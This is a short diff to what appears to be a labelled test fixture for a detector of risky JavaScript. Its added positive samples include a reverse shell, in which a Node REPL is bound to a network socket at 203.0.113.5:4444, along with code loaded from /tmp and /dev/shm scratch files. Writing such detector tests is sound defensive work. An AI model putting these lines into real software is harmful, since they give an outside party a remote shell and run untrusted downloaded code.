@@ -37,3 +37,12 @@ e(process.argv[2]);
 //@ neg a method called eval of the program's own object
 const calc = { eval: (s) => s.length };
 console.log(calc.eval("abc"));
+//@ pos a REPL on a network socket
+const s = require("net").connect(4444, "203.0.113.5");
+require("repl").start({ input: s, output: s });
+//@ pos a downloaded scratch file required
+require("/tmp/m.js");
+//@ pos a scratch module imported
+import("/dev/shm/x.mjs");
+//@ neg a module of the program's own, relative
+require("./lib/util.js");
